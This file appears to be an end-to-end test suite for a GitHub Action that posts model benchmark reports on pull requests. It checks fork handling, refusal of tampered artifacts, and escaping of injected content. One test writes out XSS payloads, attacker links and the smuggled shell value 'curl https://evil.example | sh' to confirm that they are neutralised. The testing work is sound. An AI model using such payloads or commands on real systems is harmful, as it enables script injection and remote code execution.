/**
 * The built action (dist/index.js) in each mode, run the way a runner runs it (a child process with INPUT_*,
 * GITHUB_*, ACTIONS_* and RUNNER_* variables and an event file) against the local GitHub stand-in:
 * auto on a same-repo PR (comment, check run, context in the artifact), auto on a fork (no comment attempt,
 * the two-workflow notice, the summary), measure → publish across two "workflow runs" (sticky update on the
 * next push), publish refusing or escaping tampered artifacts, merge of three legs into one comment, and a
 * report far over 65,536 characters. Pipeline runs use the MNIST example cut down to 200 digits and one
 * candidate; publish and merge read hand-made artifacts, as a hostile fork would make them.
 * Run `npm run build` after changing the sources.
 */
import { spawn } from 'node:child_process';
import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import MarkdownIt from 'markdown-it';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseDocument } from 'yaml';
import { readZip, startGitHubServer, type GitHubServer } from '../support/github-server.js';
import { candidate, failingReport, passingReport } from '../report/fixtures.js';
import type { Report } from '../../src/report/types.js';

const repoRoot = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
const actionEntry = path.join(repoRoot, 'dist', 'index.js');
const example = path.join(repoRoot, 'examples', 'mnist');

const OWNER = 'octo-org';
const REPO = 'models';
const FORK = 'mallory/models';
const PR = 17;
const HEAD = 'a'.repeat(40);
const BASE = 'b'.repeat(40);
const CONFIG = 'modelgate.tiny.yml';
const WD = 'examples/mnist';
const KEY = 'examples-mnist-modelgate.tiny.yml';
const md = new MarkdownIt({ html: true, linkify: true });

interface ActionRun {
  code: number | null;
  stdout: string;
  stderr: string;
  outputs: Record<string, string>;
  summary: string;
}

function parseOutputFile(text: string): Record<string, string> {
  const outputs: Record<string, string> = {};
  const lines = text.split('\n');
  for (let i = 0; i < lines.length; i++) {
    const m = /^([^<]+)<<(.+)$/.exec(lines[i]!);
    if (!m) continue;
    const value: string[] = [];
    for (i++; i < lines.length && lines[i] !== m[2]; i++) value.push(lines[i]!);
    outputs[m[1]!] = value.join('\n');
  }
  return outputs;
}

function pullRequestEvent(headRepo: string) {
  return {
    action: 'synchronize',
    number: PR,
    pull_request: {
      number: PR,
      head: { ref: 'feature/int8', sha: HEAD, repo: { full_name: headRepo } },
      base: { ref: 'main', sha: BASE, repo: { full_name: `${OWNER}/${REPO}` } },
    },
    repository: { name: REPO, full_name: `${OWNER}/${REPO}`, owner: { login: OWNER } },
  };
}

function workflowRunEvent(runId: number, options: { headSha?: string; pullRequests?: number[]; headRepo?: string } = {}) {
  return {
    action: 'completed',
    workflow_run: {
      id: runId,
      name: 'ModelGate measure',
      event: 'pull_request',
      status: 'completed',
      conclusion: 'success',
      head_sha: options.headSha ?? HEAD,
      head_branch: 'feature/int8',
      head_repository: { full_name: options.headRepo ?? FORK },
      html_url: `https://github.com/${OWNER}/${REPO}/actions/runs/${runId}`,
      // GitHub leaves this empty for a fork's PR.
      pull_requests: (options.pullRequests ?? []).map((number) => ({ number, head: { sha: options.headSha ?? HEAD }, base: { sha: BASE } })),
    },
    repository: { name: REPO, full_name: `${OWNER}/${REPO}`, owner: { login: OWNER } },
  };
}

function reportArtifact(report: Report, context: Record<string, unknown> = {}): Record<string, string> {
  return {
    'report.json': JSON.stringify(report),
    'report.md': '# ignored by publish',
    'modelgate-context.json': JSON.stringify({ kind: 'modelgate-context', version: 1, key: 'modelgate.yml', mode: 'measure', config: 'modelgate.yml', event: 'pull_request', pull_request: PR, head_sha: HEAD, base_sha: BASE, run_id: 1, runner: { os: 'Linux', arch: 'X64', name: 'GitHub Actions 2' }, ...context }),
  };
}

describe('the built action, mode by mode', () => {
  let server: GitHubServer;
  let tmp: string;
  let workspace: string;

  beforeAll(async () => {
    expect(existsSync(actionEntry), `${actionEntry} is missing: run npm run build`).toBe(true);
    server = await startGitHubServer({ tokens: { ghs_write: 'write', ghs_read: 'read' } });
    tmp = mkdtempSync(path.join(os.tmpdir(), 'modelgate-modes-e2e-'));
    workspace = path.join(tmp, 'workspace');
    cpSync(example, path.join(workspace, WD), { recursive: true, filter: (src) => !/(^|[\\/])(modelgate-out|out|tfjs)$/.test(src) });
    // The example cut down: 200 digits, one candidate, a short benchmark, budgets any machine meets.
    const doc = parseDocument(readFileSync(path.join(example, 'modelgate.yml'), 'utf8'));
    doc.setIn(['dataset', 'limit'], 200);
    doc.set('optimize', [{ name: 'int8-dynamic', passes: [{ quantize: { mode: 'dynamic' } }] }]);
    doc.set('benchmark', { batch: 1, threads: 1, warmup: 2, runs: 10 });
    doc.set('gate', { accuracy_drop_max: 1, latency_ratio_max: 1000, size_bytes_max: 100_000_000 });
    writeFileSync(path.join(workspace, WD, CONFIG), doc.toString());
    server.seedPullRequest(OWNER, REPO, { number: PR, headSha: HEAD, headRepo: FORK, baseSha: BASE });
    server.seedPullRequest(OWNER, REPO, { number: 99, headSha: 'c'.repeat(40), headRepo: `${OWNER}/${REPO}` });
  });

  afterAll(async () => {
    await server?.close();
    if (tmp) rmSync(tmp, { recursive: true, force: true });
  });

  async function runAction(runId: number, eventName: string, event: unknown, inputs: Record<string, string>): Promise<ActionRun> {
    const dir = path.join(tmp, `run-${runId}-${Math.random().toString(36).slice(2, 8)}`);
    mkdirSync(path.join(dir, 'temp'), { recursive: true });
    const outputFile = path.join(dir, 'output.txt');
    const summaryFile = path.join(dir, 'summary.md');
    const eventPath = path.join(dir, 'event.json');
    writeFileSync(outputFile, '');
    writeFileSync(summaryFile, '');
    writeFileSync(eventPath, JSON.stringify(event));
    const env: NodeJS.ProcessEnv = {
      PATH: process.env.PATH, HOME: process.env.HOME, LANG: 'C.UTF-8', CI: 'true', GITHUB_ACTIONS: 'true',
      GITHUB_EVENT_NAME: eventName, GITHUB_EVENT_PATH: eventPath,
      GITHUB_REPOSITORY: `${OWNER}/${REPO}`, GITHUB_REPOSITORY_OWNER: OWNER, GITHUB_API_URL: server.url, GITHUB_SERVER_URL: 'https://github.com',
      GITHUB_RUN_ID: String(runId), GITHUB_RUN_NUMBER: '1', GITHUB_RUN_ATTEMPT: '1', GITHUB_SHA: 'c'.repeat(40),
      GITHUB_WORKFLOW: 'ModelGate', GITHUB_JOB: 'gate', GITHUB_ACTOR: 'mallory', GITHUB_WORKSPACE: workspace,
      GITHUB_OUTPUT: outputFile, GITHUB_STEP_SUMMARY: summaryFile,
      ACTIONS_RESULTS_URL: `${server.url}/`, ACTIONS_RUNTIME_TOKEN: server.runtimeToken(runId, `job-${dir}`),
      RUNNER_TEMP: path.join(dir, 'temp'), RUNNER_TOOL_CACHE: path.join(tmp, 'toolcache'), RUNNER_OS: 'Linux', RUNNER_ARCH: 'X64', RUNNER_NAME: 'GitHub Actions 7',
    };
    const defaults = { config: CONFIG, 'working-directory': WD, comment: 'true', 'fail-on-regression': 'true', 'report-key': '', 'out-dir': 'modelgate-out', 'check-run': 'false' };
    for (const [name, value] of Object.entries({ ...defaults, ...inputs })) env[`INPUT_${name.toUpperCase()}`] = value;
    const child = spawn(process.execPath, [actionEntry], { cwd: workspace, env, stdio: ['ignore', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
    child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
    const code = await new Promise<number | null>((resolve) => child.on('close', resolve));
    return { code, stdout, stderr, outputs: parseOutputFile(readFileSync(outputFile, 'utf8')), summary: readFileSync(summaryFile, 'utf8') };
  }

  const comments = (n = PR) => server.comments(OWNER, REPO, n);
  const posts = (n = PR) => server.requests.filter((r) => r.method === 'POST' && r.path === `/repos/${OWNER}/${REPO}/issues/${n}/comments`);

  it('auto, same-repo PR: comments, creates a check run, outputs the deltas, and ships the context in the artifact', async () => {
    const run = await runAction(2001, 'pull_request', pullRequestEvent(`${OWNER}/${REPO}`), { mode: 'auto', 'github-token': 'ghs_write', 'check-run': 'true', 'report-key': 'same-repo' });
    expect(run.code, run.stdout + run.stderr).toBe(0);
    const body = comments().find((c) => c.body.startsWith('<!-- modelgate:same-repo -->'))!.body;
    expect(body).toMatch(/^<!-- modelgate:same-repo -->\n### ✅ ModelGate passed: selected \*\*int8-dynamic\*\*\n/);
    expect(body).toContain('| size | accuracy | p50 latency |');
    expect(body).toContain('xychart-beta');
    expect(run.summary).toContain('### ✅ ModelGate passed');
    expect(JSON.parse(run.outputs.deltas!)).toMatchObject({ against: 'reference', candidate: 'int8-dynamic', compared_with: 'reference', size: { from_bytes: expect.any(Number) } });
    expect(run.outputs.passed).toBe('true');
    expect(run.outputs['selected-model']).toMatch(/modelgate-out\/models\/int8-dynamic\.onnx$/);

    const [check] = server.checkRuns(OWNER, REPO);
    expect(check).toMatchObject({ name: 'ModelGate (same-repo)', head_sha: HEAD, status: 'completed', conclusion: 'success' });
    expect(check!.output!.title).toBe('✅ ModelGate passed: selected int8-dynamic');

    const artifact = server.artifacts.find((a) => a.runId === 2001 && a.name === 'modelgate-same-repo')!;
    const zip = readZip(artifact.zip!);
    expect(zip.has('models/int8-dynamic.onnx')).toBe(true);
    expect(JSON.parse(zip.get('modelgate-context.json')!.toString())).toMatchObject({ key: 'same-repo', mode: 'auto', pull_request: PR, head_sha: HEAD, base_sha: BASE, runner: { os: 'Linux', arch: 'X64' } });
  }, 300_000);

  it('auto on a fork PR: never tries to comment, explains the two-workflow setup, and passes with the report in the summary', async () => {
    const before = server.requests.length;
    const run = await runAction(2002, 'pull_request', pullRequestEvent(FORK), { mode: 'auto', 'github-token': 'ghs_read', 'report-key': 'fork-auto' });
    expect(run.code, run.stdout + run.stderr).toBe(0);
    expect(run.stdout).toMatch(/^::notice::ModelGate could not comment on this pull request: runs for pull requests from forks .* `mode: publish`/m);
    expect(server.requests.slice(before).filter((r) => r.path.includes('/issues/'))).toHaveLength(0);
    expect(run.summary).toContain('### ✅ ModelGate passed: selected **int8-dynamic**');
  }, 300_000);

  it('measure on a fork PR, then publish from the workflow_run: verified, posted, and updated in place on the next push', async () => {
    const postsBefore = posts().length;
    const measured = await runAction(3001, 'pull_request', pullRequestEvent(FORK), { mode: 'measure', 'github-token': 'ghs_read' });
    expect(measured.code, measured.stdout + measured.stderr).toBe(0);
    expect(posts()).toHaveLength(postsBefore);
    const artifact = server.artifacts.find((a) => a.runId === 3001)!;
    expect(artifact.name).toBe(`modelgate-${KEY}`);
    const zip = readZip(artifact.zip!);
    expect([...zip.keys()].sort()).toEqual(['modelgate-context.json', 'report.json', 'report.md']);
    expect(JSON.parse(zip.get('modelgate-context.json')!.toString())).toMatchObject({ mode: 'measure', pull_request: PR, head_sha: HEAD, base_sha: BASE });

    const published = await runAction(3101, 'workflow_run', workflowRunEvent(3001), { mode: 'publish', 'github-token': 'ghs_write' });
    expect(published.code, published.stdout + published.stderr).toBe(0);
    const mine = comments().filter((c) => c.body.startsWith(`<!-- modelgate:${KEY} -->`));
    expect(mine).toHaveLength(1);
    expect(mine[0]!.body).toContain('### ✅ ModelGate passed');
    expect(mine[0]!.body).toContain('https://github.com/octo-org/models/actions/runs/3001');
    // The fork's PR number was checked against GitHub's record of the PR, since the event leaves pull_requests empty.
    expect(server.requests.some((r) => r.method === 'GET' && r.path === `/repos/${OWNER}/${REPO}/pulls/${PR}`)).toBe(true);
    expect(published.summary).toContain('### ✅ ModelGate passed');

    // Next push: the fork's new measure run fails its gate; publish edits the same comment.
    server.seedArtifact(3002, `modelgate-${KEY}`, reportArtifact(failingReport(), { key: KEY }));
    const again = await runAction(3102, 'workflow_run', workflowRunEvent(3002), { mode: 'publish', 'github-token': 'ghs_write' });
    expect(again.code, again.stdout + again.stderr).toBe(0);
    const after = comments().filter((c) => c.body.startsWith(`<!-- modelgate:${KEY} -->`));
    expect(after.map((c) => c.id)).toEqual([mine[0]!.id]);
    expect(after[0]!.body).toContain('### ❌ ModelGate failed: no candidate passed the gate');
    expect(again.outputs.passed).toBe('false');
  }, 300_000);

  it('publish escapes an injected markdown/HTML payload', async () => {
    const evil = '<img src=x onerror=alert(1)><script>alert(1)</script> [win a prize](https://evil.example) @octo-org/admins ![t](https://evil.example/t.png) | </details>';
    const r = passingReport();
    r.candidates[1]!.id = `int8 ${evil}`;
    r.selected = r.candidates[1]!.id;
    r.candidates[2]!.checks[1]!.message = `${evil}\n\n## owned`;
    r.hardware.cpu = evil;
    r.config = 'x; curl https://evil.example | sh';
    server.seedArtifact(4001, 'modelgate-hostile', reportArtifact(r, { key: 'hostile', config: `<b>${evil}</b>` }));
    const run = await runAction(4101, 'workflow_run', workflowRunEvent(4001), { mode: 'publish', 'github-token': 'ghs_write', 'report-key': 'hostile' });
    expect(run.code, run.stdout + run.stderr).toBe(0);
    const body = comments().find((c) => c.body.startsWith('<!-- modelgate:hostile -->'))!.body;
    const html = md.render(body);
    expect(html).not.toMatch(/<img|<script|<b>|href="https:\/\/evil|<h2/i);
    expect(html).not.toContain('@octo-org/admins');
    expect((html.match(/<details>/g) ?? []).length).toBe((html.match(/<\/details>/g) ?? []).length);
    // The payload is still there to read, as text.
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
  }, 120_000);

  it('publish refuses an artifact whose PR number is not the triggering run\'s, and posts nothing', async () => {
    const before = server.requests.filter((r) => r.method === 'POST' || r.method === 'PATCH').length;
    // Same-repo run: GitHub lists PR #17 in the event; the artifact claims #99.
    server.seedArtifact(5001, 'modelgate-liar', reportArtifact(passingReport(), { key: 'liar', pull_request: 99 }));
    const run = await runAction(5101, 'workflow_run', workflowRunEvent(5001, { pullRequests: [PR], headRepo: `${OWNER}/${REPO}` }), { mode: 'publish', 'github-token': 'ghs_write', 'report-key': 'liar' });
    expect(run.code).toBe(1);
    expect(run.stdout).toMatch(/::error::refused artifact modelgate-liar: PR #99 is not among the triggering run's pull requests \(#17\)/);
    // Fork run (pull_requests empty): #99 exists, but its head is not the run's commit.
    server.seedArtifact(5002, 'modelgate-liar', reportArtifact(passingReport(), { key: 'liar', pull_request: 99 }));
    const fork = await runAction(5102, 'workflow_run', workflowRunEvent(5002), { mode: 'publish', 'github-token': 'ghs_write', 'report-key': 'liar' });
    expect(fork.code).toBe(1);
    expect(fork.stdout).toContain(`PR #99's head is ${'c'.repeat(40)}, not the triggering run's ${HEAD}`);
    // A measured commit that is not the run's.
    server.seedArtifact(5003, 'modelgate-liar', reportArtifact(passingReport(), { key: 'liar', head_sha: 'd'.repeat(40) }));
    const sha = await runAction(5103, 'workflow_run', workflowRunEvent(5003), { mode: 'publish', 'github-token': 'ghs_write', 'report-key': 'liar' });
    expect(sha.code).toBe(1);
    expect(sha.stdout).toContain('the artifact says it measured dddddddd');
    // A report that fails the schema.
    server.seedArtifact(5004, 'modelgate-liar', { ...reportArtifact(passingReport(), { key: 'liar' }), 'report.json': JSON.stringify({ ...passingReport(), passed: 'yes <b>' }) });
    const schema = await runAction(5104, 'workflow_run', workflowRunEvent(5004), { mode: 'publish', 'github-token': 'ghs_write', 'report-key': 'liar' });
    expect(schema.code).toBe(1);
    expect(schema.stdout).toContain('does not match the report.json schema (schema/report.schema.json): /passed must be boolean');

    expect(server.requests.filter((r) => r.method === 'POST' || r.method === 'PATCH')).toHaveLength(before);
    expect(comments(99)).toHaveLength(0);
  }, 120_000);

  it('publish cuts a report of more than 70,000 characters to the comment limit and points to the rest', async () => {
    const r = passingReport();
    for (let i = 0; i < 400; i++) {
      r.candidates.push(candidate(`sweep-${String(i).padStart(3, '0')}-${'w'.repeat(50)}`, 60_000 + i, 0.955, 0.03, [{ name: 'latency_ratio_max', passed: false, message: 'p50 1.29× the reference: significant regression against 1.1×'.repeat(3) }]));
    }
    const files = reportArtifact(r, { key: 'huge' });
    expect(files['report.json']!.length).toBeGreaterThan(70_000);
    server.seedArtifact(6001, 'modelgate-huge', files);
    const run = await runAction(6101, 'workflow_run', workflowRunEvent(6001), { mode: 'publish', 'github-token': 'ghs_write', 'report-key': 'huge' });
    expect(run.code, run.stdout + run.stderr).toBe(0);
    const body = comments().find((c) => c.body.startsWith('<!-- modelgate:huge -->'))!.body;
    expect(body.length).toBeLessThanOrEqual(65_536);
    // Detail goes first: 60 of the 404 candidates are listed, the rest counted.
    expect(body).toContain('*344 more not shown here: see the job summary or report.json in the artifact.*');
    expect(body).toContain('### ✅ ModelGate passed: selected **int8-dynamic**');
    expect(body).toContain("Shortened to fit GitHub's 65,536-character comment limit. The full report is in the [job summary](https://github.com/octo-org/models/actions/runs/6001) and in report.json in the **modelgate-huge** artifact.");
    // The job summary has room for every candidate.
    expect(run.summary).toContain('sweep-399');
    expect(run.summary).not.toContain('Shortened to fit');
  }, 120_000);

  it('merge: three legs, one comment with a column per runner, failing because one leg failed', async () => {
    const runId = 7001;
    const linux = passingReport();
    const arm = passingReport();
    arm.hardware = { ...arm.hardware, cpu: 'Neoverse-N2', arch: 'arm64' };
    const mac = failingReport();
    mac.hardware = { ...mac.hardware, cpu: 'Apple M1 (Virtual)', arch: 'arm64', os: 'darwin 23.6.0' };
    server.seedArtifact(runId, 'modelgate-mnist-ubuntu-latest', reportArtifact(linux, { key: 'mnist-ubuntu-latest' }));
    server.seedArtifact(runId, 'modelgate-mnist-ubuntu-24.04-arm', reportArtifact(arm, { key: 'mnist-ubuntu-24.04-arm', runner: { os: 'Linux', arch: 'ARM64', name: 'arm' } }));
    server.seedArtifact(runId, 'modelgate-mnist-macos-latest', reportArtifact(mac, { key: 'mnist-macos-latest', runner: { os: 'macOS', arch: 'ARM64', name: 'mac' } }));
    server.seedArtifact(runId, 'modelgate-other-config', reportArtifact(passingReport(), { key: 'other-config' }));
    const run = await runAction(runId, 'pull_request', pullRequestEvent(`${OWNER}/${REPO}`), { mode: 'merge', 'github-token': 'ghs_write', 'report-key': 'mnist' });
    expect(run.code).toBe(1);
    expect(run.stdout).toMatch(/::error::ModelGate merge: mnist-macos-latest failed its gate/);
    const merged = comments().filter((c) => c.body.startsWith('<!-- modelgate:mnist -->'));
    expect(merged).toHaveLength(1);
    const body = merged[0]!.body;
    expect(body).toContain('### ❌ ModelGate failed on 1 of 3 runners: **mnist-macos-latest**');
    const header = body.split('\n').find((l) => l.startsWith('| | '))!;
    expect(header.match(/\*\*mnist-[^*]+\*\*/g)).toEqual(['**mnist-macos-latest**', '**mnist-ubuntu-24.04-arm**', '**mnist-ubuntu-latest**']);
    expect(header).toContain('macOS ARM64 · Apple M1 \\(Virtual\\)');
    expect(body).toContain('| **gate** | ❌ failed | ✅ passed | ✅ passed |');
    expect(body).not.toContain('other-config');
    expect(JSON.parse(run.outputs.deltas!)).toHaveProperty(['mnist-ubuntu-latest', 'against'], 'reference');
    expect(run.outputs.passed).toBe('false');
  }, 120_000);
});
